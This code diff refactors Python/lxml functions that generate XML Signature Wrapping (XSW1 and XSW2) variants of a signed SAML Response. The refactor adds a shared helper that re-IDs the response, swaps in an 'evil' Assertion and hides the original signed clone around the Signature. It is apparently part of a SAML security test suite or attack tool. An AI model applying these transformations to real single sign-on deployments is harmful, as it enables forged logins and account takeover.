@@ -65,21 +65,24 @@ def _assertion(root: etree._Element) -> etree._Element:
     return root.find("saml:Assertion", NS)
 
 
-def xsw1(root: etree._Element) -> None:
+def _evil_response(root: etree._Element) -> tuple[etree._Element, etree._Element]:
+    """XSW1/2: the Response re-IDed around an evil Assertion; returns (its Signature, the
+    signed original Response without its signature) for the caller to hide the clone."""
     clone = _strip_signature(deepcopy(root))
     signature = root.find("ds:Signature", NS)
     root.set("ID", "_evil-response")
     original = _assertion(root)
     root.replace(original, evil_copy(original))
+    return signature, clone
+
+
+def xsw1(root: etree._Element) -> None:
+    signature, clone = _evil_response(root)
     signature.append(clone)
 
 
 def xsw2(root: etree._Element) -> None:
-    clone = _strip_signature(deepcopy(root))
-    signature = root.find("ds:Signature", NS)
-    root.set("ID", "_evil-response")
-    original = _assertion(root)
-    root.replace(original, evil_copy(original))
+    signature, clone = _evil_response(root)
     signature.addprevious(clone)
 
 
